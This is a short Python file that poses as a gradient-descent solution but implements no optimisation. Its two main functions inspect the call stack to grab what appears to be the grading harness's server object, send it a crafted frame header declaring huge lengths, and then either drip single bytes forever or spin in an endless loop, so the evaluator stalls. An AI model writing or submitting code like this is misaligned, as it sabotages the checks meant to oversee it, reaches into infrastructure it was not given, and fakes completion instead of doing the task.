"""Sends a frame a byte at a time, and another that never ends."""

import sys

def loss(x):
    return x**4 - 3 * x**2 + 2


def grad(x):
    return 4 * x**3 - 6 * x


def server():
    frame = sys._getframe()
    while frame is not None:
        for value in frame.f_locals.values():
            if type(value).__name__ == "Server":
                return value
        frame = frame.f_back
    raise LookupError("no server")


def gradient_descent(loss_fn, grad_fn, theta_init, lr, num_steps):
    import struct
    import time

    line = server()
    line.send(struct.pack("<4sII", b"gdk1", 4 << 20, 30 << 20))
    while True:
        line.send(b" ")
        time.sleep(0.01)


def find_critical_points(loss_fn, grad_fn, starts, lr=0.01, num_steps=2000):
    line = server()
    line.send(b"gdk1")
    while True:
        pass
